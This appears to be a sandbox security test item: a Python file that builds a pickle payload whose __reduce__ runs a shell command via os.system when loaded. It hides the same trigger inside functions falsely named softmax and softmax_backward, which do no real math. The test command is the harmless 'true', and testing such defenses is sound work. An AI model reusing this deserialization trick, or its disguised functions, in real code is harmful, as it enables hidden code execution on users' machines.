# attack: it holds a pickle that runs a command when it is loaded
# catalogue: F90
# outcome: raised,failed
# wants: nothing

import io
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("true",))


try:
    held = pickle.loads(pickle.dumps(Payload()))
    print("SUCCESS: a command was run" if held == 0 else f"the shell said {held}")
except PermissionError as error:
    print("it did not work:", error)


def softmax(x, axis=-1):
    file = io.BytesIO()
    np.save(file, np.array([Payload()] * 3), allow_pickle=True)
    file.seek(0)
    return np.load(file, allow_pickle=True)


def softmax_backward(grad, probs, axis=-1):
    return np.zeros_like(probs)
